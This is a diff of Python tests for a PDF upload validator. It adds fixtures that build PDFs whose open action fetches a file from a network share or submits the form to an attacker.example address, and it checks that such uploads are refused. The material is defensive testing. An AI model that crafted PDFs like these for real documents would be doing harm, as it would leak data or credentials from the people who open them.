@@ -81,3 +81,32 @@ def test_a_plain_pdf_with_an_ordinary_form_is_still_accepted():
         )
 
     assert check_upload(pdf_with(form), "certificate.pdf", {PDF}, 10 * 1024 * 1024) == PDF
+
+
+def opening_a_file_on_a_share(writer: PdfWriter) -> None:
+    action = DictionaryObject(
+        {
+            NameObject("/S"): NameObject("/GoToR"),
+            NameObject("/F"): TextStringObject("\\\\fileserver\\share\\x.pdf"),
+        }
+    )
+    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
+
+
+def sending_the_form_to_a_server(writer: PdfWriter) -> None:
+    action = DictionaryObject(
+        {
+            NameObject("/S"): NameObject("/SubmitForm"),
+            NameObject("/F"): TextStringObject("https://attacker.example/collect"),
+        }
+    )
+    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
+
+
+@pytest.mark.parametrize(
+    "action", [opening_a_file_on_a_share, sending_the_form_to_a_server], ids=["gotor", "submit"]
+)
+def test_a_pdf_that_opens_a_remote_file_or_sends_its_form_is_refused(action):
+    with pytest.raises(UploadRefused) as refused:
+        check_upload(pdf_with(action), "certificate.pdf", {PDF}, 10 * 1024 * 1024)
+    assert refused.value.message == ACTIVE_PDF
